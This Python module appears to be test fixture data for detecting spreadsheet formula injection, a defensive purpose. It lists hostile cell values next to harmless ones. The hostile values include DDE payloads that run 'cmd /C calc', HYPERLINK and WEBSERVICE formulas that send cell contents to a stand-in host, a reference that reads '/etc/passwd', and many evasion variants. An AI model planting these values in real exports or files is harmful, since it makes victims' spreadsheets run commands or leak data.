"""Texts that try to be run by a spreadsheet, by what they try.

After the public advice on "CSV injection" (OWASP; from memory), and what parsers of numbers, quotes and markup might
make of a text. Each holds MARK where it would compute or fetch something, so that a value without it tells.
"""

from __future__ import annotations

MARK = "4711"
"""Stands in the sums: what is computed from it is another number."""

HOSTILE = {
    "equals": "=1+4711",
    "plus": "+1+4711",
    "minus": "-1+4711",
    "at": "@SUM(1,4711)",
    "tab": "\t=1+4711",
    "carriage-return": "\r=1+4711",
    "line-feed": "\n=1+4711",
    "space-before": "   =1+4711",
    "no-break-space-before": "\u00a0=1+4711",
    "narrow-no-break-space-before": "\u202f=1+4711",
    "ideographic-space-before": "\u3000=1+4711",
    "zero-width-space-before": "\u200b=1+4711",
    "word-joiner-before": "\u2060=1+4711",
    "byte-order-mark-before": "\ufeff=1+4711",
    "soft-hyphen-before": "\u00ad=1+4711",
    "right-to-left-before": "\u202e=1+4711",
    "nul-before": "\x00=1+4711",
    "wide-equals": "\uff1d1+4711",
    "wide-plus": "\uff0b1+4711",
    "wide-minus": "\uff0d1+4711",
    "wide-at": "\uff20SUM(1,4711)",
    "small-equals": "\ufe661+4711",
    "array": "{=1+4711}",
    "program": "=cmd|' /C calc 4711'!A0",
    "program-behind-sum": "-2+3+cmd|' /C calc 4711'!A0",
    "program-behind-at": "@SUM(1+1)*cmd|' /C calc 4711'!A0",
    "program-alone": "|calc 4711",
    "program-by-name": '=DDE("soffice";"4711";"A1")',
    "link": '=HYPERLINK("http://192.0.2.1/?"&A1,"4711")',
    "fetch": '=WEBSERVICE("http://192.0.2.1/"&4711)',
    "picture": '=IMAGE("http://192.0.2.1/4711.png")',
    "import": '=IMPORTXML("http://192.0.2.1/4711","//a")',
    "other-file": "='file:///etc/passwd'#$passwd.A4711",
    "quote-ends-cell": '"=1+4711',
    "quoted": '"=1+4711"',
    "quote-and-comma": 'a",=1+4711,"',
    "quote-and-semicolon": 'a";=1+4711;"',
    "semicolon": "a;=1+4711",
    "semicolon-and-space": "a; =1+4711",
    "semicolon-and-program": "a;-2+3+cmd|' /C calc 4711'!A0",
    "semicolon-and-call": "a;+SUM(1,4711)",
    "tab-inside": "a\t=1+4711",
    "line-break-inside": "a\n=1+4711",
    "line-break-and-quote": 'a"\r\n=1+4711,"',
    "line-break-and-program": "a\r\n-2+3+cmd|' /C calc 4711'!A0",
    "apostrophe-already": "'=1+4711",
    "two-apostrophes": "''=1+4711",
    "sheet-markup": '<r><t>x</t></r></is></c><c r="A1"><f>1+4711</f><v>0</v></c><c t="inlineStr"><is><r><t>4711</t></r>',
    "formula-markup": "<f>1+4711</f>",
    "escaped-sign": "_x003D_1+4711",
    "formula-of-cells": "of:=1+4711",
    "r1c1": "=RC[1]+4711",
    "separator-line": "sep=;",
}  # fmt: skip
"""By name: text."""

HARMLESS = {
    "minus-number": "-5",
    "number-with-unit": "-5 °C",
    "points-of-a-list": "Found:\n- valve worn\n- gasket torn\n+ one spare used",
    "parts": "drain; fill; - 3 litres; test",
    "equals-inside": "clearance = 0.4 mm",
    "mail": "chief@example.org",
    "apostrophe": "'tween deck",
    "degrees": "between -5 and +40",
}
"""By name: text as people write it."""
